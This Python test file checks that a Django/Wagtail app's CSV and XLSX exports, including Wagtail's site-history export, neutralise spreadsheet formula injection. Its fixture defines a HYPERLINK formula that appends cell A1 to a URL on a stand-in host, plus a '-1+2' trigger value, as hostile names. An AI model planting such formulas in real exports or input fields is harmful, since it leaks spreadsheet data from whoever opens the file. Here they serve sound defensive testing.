"""Spreadsheet exports never carry a live formula: every CSV and XLSX export, the product's
and Wagtail's own, goes through `api_common.spreadsheets.safe_cell`."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from wagtail.log_actions import log

from workflows.policies import COUNSELLORS

from .factories import new_pathway

FORMULA = '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")'


@pytest.fixture
def hostile_pathway(db, definition, counsellor, places):
    access = Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")
    Group.objects.get_or_create(name=COUNSELLORS)[0].permissions.add(access)
    return new_pathway(
        actor=counsellor,
        referent=counsellor,
        antenna=places["antenna"],
        first_name=FORMULA,
        last_name="-1+2",
    )


def caseload_export(client, export_format: str):
    return client.get(reverse("workflows_screens:caseload"), {"export": export_format})


def test_caseload_csv_export_neutralises_a_formula_first_name(client, hostile_pathway, counsellor):
    client.force_login(counsellor)
    response = caseload_export(client, "csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][:2] == ["'" + FORMULA, "'-1+2"]


def test_caseload_xlsx_export_neutralises_a_formula_first_name(client, hostile_pathway, counsellor):
    client.force_login(counsellor)
    response = caseload_export(client, "xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))
    assert row[:2] == ("'" + FORMULA, "'-1+2")


def test_wagtails_own_exports_are_neutralised_too(client, hostile_pathway, django_user_model):
    """The site history lists object labels that staff typed; its export is safe as well."""
    admin = django_user_model.objects.create_superuser("admin-export", "a@example.org", "x")
    log(instance=hostile_pathway.definition, action="wagtail.edit", user=admin, title=FORMULA)
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
